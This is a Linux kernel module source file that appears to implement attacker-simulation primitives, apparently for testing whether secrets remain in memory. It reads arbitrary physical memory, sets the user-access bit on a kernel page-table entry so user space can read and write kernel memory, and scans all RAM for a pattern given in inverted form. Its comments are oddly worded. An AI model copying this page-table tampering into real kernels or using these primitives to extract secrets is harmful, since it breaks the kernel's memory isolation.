// SPDX-License-Identifier: GPL-2.0
/*
 * Who can read all of the kernel's memory looks for something in it.
 *
 * What is looked for is given inverted, and is never whole in memory of this module's: else
 * that is what would be found.
 */
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/pfn.h>
#include <linux/slab.h>
#include <linux/uaccess.h>

#include "attack.h"

/** attack_look() - PA: what memory holds, by a mapping of the attacker's, as for a device */
int attack_look(const u64 *arg, struct seq_buf *out)
{
	void *at = memremap(arg[0] & PAGE_MASK, PAGE_SIZE, MEMREMAP_WB);
	u64 value;
	int err;

	if (!at)
		return -ENOMEM;
	err = copy_from_kernel_nofault(&value, at + (arg[0] & ~PAGE_MASK), sizeof(value));
	memunmap(at);
	if (!err)
		seq_buf_printf(out, "value=%#llx\n", value);
	return err;
}

static void *view;

/** attack_unview() - what attack_view() has made ends */
int attack_unview(const u64 *arg, struct seq_buf *out)
{
	if (!view)
		return -ENOENT;
	memunmap(view);
	view = NULL;
	attack_fence();
	return 0;
}

/**
 * attack_view() - PA: programs can read and write memory, by a kernel address
 *
 * The kernel's half of all address spaces, and of marked ones, too, is by the kernel's own
 * tables, which are ordinary memory.
 */
int attack_view(const u64 *arg, struct seq_buf *out)
{
	struct attack_walk walk;
	u64 *entry;
	int err;

	if (view)
		return -EBUSY;
	view = memremap(arg[0] & PAGE_MASK, PAGE_SIZE, MEMREMAP_WB);
	if (!view)
		return -ENOMEM;
	err = attack_walk(current->pid, (unsigned long)view, &walk);
	if (err || walk.lowest) {
		attack_unview(NULL, NULL);
		return err ? err : -EINVAL;
	}
	entry = __va(walk.slot[0]);
	WRITE_ONCE(*entry, *entry | _PAGE_USER);
	attack_fence();
	seq_buf_printf(out, "va=%#lx entry=%#llx\n", (unsigned long)view, READ_ONCE(*entry));
	return 0;
}

static bool is_at(const u8 *p, const u64 *inverted)
{
	for (int i = 0; i < 16; i++)
		if ((u8)~p[i] != (u8)(inverted[i / 8] >> 8 * (i % 8)))
			return false;
	return true;
}

static unsigned int count_in(const u8 *page, const u64 *inverted)
{
	unsigned int nr = 0;

	for (unsigned int i = 0; i <= PAGE_SIZE - 16; i++)
		nr += is_at(page + i, inverted);
	return nr;
}

/* Return: whether it is there. */
static bool search_page(unsigned long pfn, u8 *copy, const u64 *inverted, unsigned long *searched)
{
	const void *page = pfn_valid(pfn) ? pfn_to_virt(pfn) : NULL;

	if (!(pfn % 1024))
		cond_resched();
	if (!page || page == copy || copy_from_kernel_nofault(copy, page, PAGE_SIZE))
		return false;
	++*searched;
	return count_in(copy, inverted);
}

/** attack_search() - A B: pages that have it, of all that are in the linear map */
int attack_search(const u64 *arg, struct seq_buf *out)
{
	u8 *copy = (u8 *)__get_free_page(GFP_KERNEL);
	unsigned long pfn, searched = 0, found = 0;
	int nid;

	if (!copy)
		return -ENOMEM;
	for_each_online_node(nid) {
		for (pfn = node_start_pfn(nid); pfn < node_end_pfn(nid); pfn++) {
			if (!search_page(pfn, copy, arg, &searched) || found++)
				continue;
			seq_buf_printf(out, "first=%#llx ", (u64)PFN_PHYS(pfn));
		}
	}
	memset(copy, 0, PAGE_SIZE);
	free_page((unsigned long)copy);
	seq_buf_printf(out, "found=%lu searched=%lu\n", found, searched);
	return 0;
}
